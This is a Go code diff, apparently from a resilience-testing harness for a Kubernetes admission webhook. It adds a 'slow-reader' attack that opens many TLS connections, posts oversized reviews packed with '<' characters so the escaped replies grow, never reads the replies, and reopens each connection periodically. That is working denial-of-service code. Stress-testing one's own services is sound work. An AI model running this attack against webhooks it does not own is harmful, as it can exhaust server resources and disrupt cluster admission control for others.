@@ -43,6 +43,9 @@ var (
 	idleN       = flag.Int("idle-conns", 1100, "fd-limit: TLS connections held idle, more than the webhook's -nofile leaves it")
 	labelKeys   = flag.Int("label-keys", 30000, "many-labels: label keys in the review, beside the ones the selector reads")
 	labelClient = flag.Int("label-clients", 32, "many-labels: clients posting it back to back")
+	readerConns = flag.Int("reader-conns", 32, "slow-reader: TLS connections that post a review and never read its answer")
+	readerBytes = flag.Int("reader-bytes", 3<<20-4<<10, "slow-reader: size of the review, whose Worker's one arg is all '<'")
+	readerRenew = flag.Duration("reader-renew", 20*time.Second, "slow-reader: each connection is closed and opened again after this")
 )
 
 // attacker dials the attacks' connections: from attackerIP, another
@@ -174,6 +177,35 @@ func escapedArgsReview(size int) []byte {
 		worker["containers"].([]any)[0].(map[string]any)["args"] = []any{marker}
 	})
 	return bytes.Replace(review, []byte(marker), bytes.Repeat([]byte("<"), size-len(review)+len(marker)), 1)
+}
+
+// slowReader posts escapedArgsReview(-reader-bytes), whose answer is a
+// third larger, on -reader-conns TLS connections, and never reads the
+// answer; each connection is closed and opened again after -reader-renew.
+func slowReader(ctx context.Context, w *webhook) string {
+	review := escapedArgsReview(*readerBytes)
+	req := must(http.NewRequestWithContext(ctx, http.MethodPost, w.url, bytes.NewReader(review)))
+	req.Header.Set("Content-Type", "application/json")
+	var request bytes.Buffer
+	must(0, req.Write(&request))
+	dialer := &tls.Dialer{NetDialer: attacker, Config: w.attackTLS}
+	sent, failed := repeat(ctx, *readerConns, func() error {
+		conn, err := dialer.DialContext(ctx, "tcp", w.address)
+		if err != nil {
+			return err
+		}
+		defer conn.Close()
+		defer context.AfterFunc(ctx, func() { conn.Close() })()
+		if _, err := conn.Write(request.Bytes()); err != nil {
+			return err
+		}
+		select {
+		case <-ctx.Done():
+		case <-time.After(*readerRenew):
+		}
+		return nil
+	})
+	return fmt.Sprintf("%d connections each posted a review of %d bytes and read nothing: %d renewed, %d failed", *readerConns, len(review), sent, failed)
 }
 
 // controlBytes posts a review whose mpi.flyte.org/worker-spec-command is
